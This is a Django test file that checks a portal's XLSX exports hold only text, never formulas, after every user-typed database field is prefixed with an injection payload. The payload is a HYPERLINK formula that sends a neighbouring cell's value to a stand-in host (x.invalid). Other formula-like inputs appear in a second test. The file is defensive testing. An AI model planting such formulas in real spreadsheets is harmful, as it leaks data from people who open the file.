"""Spreadsheet formula injection (issue 13 §1): no XLSX the portal writes holds
a formula, whatever people typed into titles and names.

Every user-written text column of every model is rewritten to start with a
live formula (``=HYPERLINK(…)``); then every GET URL of the permission matrix
is requested and each answer that is an XLSX is opened. A new URL answering
XLSX is checked automatically, and fails until it is listed in ``XLSX_URLS``
(so its variants — every list, every recap kind — get requested too)."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.apps import apps
from django.db import models
from django.db.models import Value
from django.db.models.functions import Concat, Left
from django.urls import reverse
from openpyxl import load_workbook

from conftest import BILAH_HULU, LABUHANBATU, PONDOK_BATU
from reports.xlsx import XLSX_TYPE
from tests.matrix import all_cases, build_world

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://x.invalid/?leak="&B5,"Klik") '
APPS = ["kampungkb", "villages", "poktan", "interventions", "reports"]
# Machine fields (hashes, codes, file lists the code parses), not text people type.
NOT_TYPED = {
    ("User", "password"),
    ("AuditEntry", "action"),
    ("AuditEntry", "object_id"),
    ("AuditEntry", "wilayah_kode"),
    ("FormToken", "url"),
    ("Anggota", "nomor_kk"),  # 16 digits, checked at entry
    ("IndikatorIID", "jenis_berkas"),
    ("Ringkasan", "kelas"),
    ("Unduhan", "jenis"),
    ("Unduhan", "format"),
}


def make_hostile() -> int:
    """Prefix every typed text value in the database with a formula."""
    rows = 0
    for label in APPS:
        for model in apps.get_app_config(label).get_models():
            for f in model._meta.concrete_fields:
                if (
                    not isinstance(f, models.CharField | models.TextField)
                    or f.choices
                    or f.primary_key
                    or isinstance(f, models.GeneratedField)
                    or (model.__name__, f.name) in NOT_TYPED
                ):
                    continue
                value = Concat(Value(HOSTILE), f.name, output_field=f)
                if getattr(f, "max_length", None):
                    value = Left(value, f.max_length)
                rows += model._base_manager.update(**{f.name: value})
    return rows


def xlsx_urls(w) -> dict[str, list[str]]:
    """Each XLSX URL name and the variants to request (every list, every recap kind)."""
    from reports.documents import LISTS, RECAPS

    return {
        "reports:dasbor-xlsx": [
            reverse("reports:dasbor-xlsx", args=[k]) for k in (LABUHANBATU, BILAH_HULU, PONDOK_BATU)
        ],
        "reports:daftar-xlsx": [reverse("reports:daftar-xlsx", args=[d]) for d in LISTS],
        "reports:rekap-xlsx": [
            reverse("reports:rekap-xlsx", args=[jenis, k])
            for jenis in RECAPS
            for k in (LABUHANBATU, BILAH_HULU)
        ],
        "reports:ri-xlsx": [
            reverse("reports:ri-xlsx", args=[k]) for k in (BILAH_HULU, PONDOK_BATU)
        ],
        "reports:unduhan-berkas": [reverse("reports:unduhan-berkas", args=[w.unduhan_xlsx.pk])],
        "poktan:anggota-template": [reverse("poktan:anggota-template", args=[w.poktan.pk])],
    }


@pytest.fixture
def world(personas, kampung_pondokbatu, kampung_tapteng):
    from reports.models import Unduhan
    from reports.tasks import prepare_unduhan

    w = build_world(personas, kampung_pondokbatu, kampung_tapteng)
    assert make_hostile() > 50
    # A background download, rendered by the task itself (the recap kinds are
    # all requested directly above; the job shares their sheets).
    from kampungkb.periods import Periode

    w.unduhan_xlsx = Unduhan.objects.create(
        pemilik=personas.admin_portal,
        jenis="poktan",
        wilayah_id=LABUHANBATU,
        periode=Periode.current().first_day,
        format="xlsx",
        judul="Rekap",
    )
    prepare_unduhan.call(w.unduhan_xlsx.pk)
    return w


def assert_text_only(content: bytes, where: str) -> int:
    """No formula in the workbook (by openpyxl and in the raw XML); hostile cells counted."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                assert not re.search(rb"<(\w+:)?f[ >/]", xml), f"{where}: <f> in {name}"
    wb = load_workbook(io.BytesIO(content))
    hostile = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: formula in {ws.title}!{cell.coordinate}"
                if isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK"):
                    hostile += 1
    return hostile


def _first_reader(case) -> str | None:
    if case.expected.get("admin_portal") == 200:
        return "admin_portal"
    return next((p for p, s in case.expected.items() if s == 200), None)


def test_every_xlsx_answer_holds_text_not_formulas(world, client_for):
    listed = xlsx_urls(world)
    found: set[str] = set()
    # Every GET URL of the matrix (PDF routes answer PDF and are slow to render).
    for case in all_cases():
        persona = _first_reader(case)
        if case.method != "GET" or persona is None or "pdf" in case.url_name:
            continue
        response = client_for(getattr(world.personas, persona)).get(case.url(world))
        if response.get("Content-Type", "").startswith(XLSX_TYPE):
            found.add(case.url_name)
            assert_text_only(response.content, case.id)
    assert found, "the scan found no XLSX at all"
    missing = sorted(found - set(listed))
    assert not missing, f"XLSX URL tanpa kasus di XLSX_URLS: {missing}"
    admin = client_for(world.personas.admin_portal)
    for name, urls in listed.items():
        hostile = 0
        for url in urls:
            response = admin.get(url)
            assert response.status_code == 200, url
            assert response["Content-Type"] == XLSX_TYPE, url
            hostile += assert_text_only(response.content, url)
        if name != "poktan:anggota-template":  # the template holds no data
            assert hostile, f"{name}: no user text reached the workbook; the test proves nothing"


def test_numbers_stay_numbers_and_text_stays_text():
    from reports import xlsx

    sheet = xlsx.Sheet(
        "Uji",
        [xlsx.Column("Nama"), xlsx.Column("Jumlah", xlsx.INTEGER)],
        [["=1+1", 12], ["@SUM(A1)", 3], ["-2", 0], ["+62 812", 7], ["\t=cmd", 1]],
    )
    wb = load_workbook(io.BytesIO(xlsx.workbook_bytes([sheet])))
    ws = wb.active
    names = [ws.cell(row=r, column=1) for r in range(2, 7)]
    counts = [ws.cell(row=r, column=2) for r in range(2, 7)]
    assert [c.value for c in names] == ["=1+1", "@SUM(A1)", "-2", "+62 812", "\t=cmd"]
    assert {c.data_type for c in names} == {"s"}
    assert [c.value for c in counts] == [12, 3, 0, 7, 1]
    assert {c.data_type for c in counts} == {"n"}
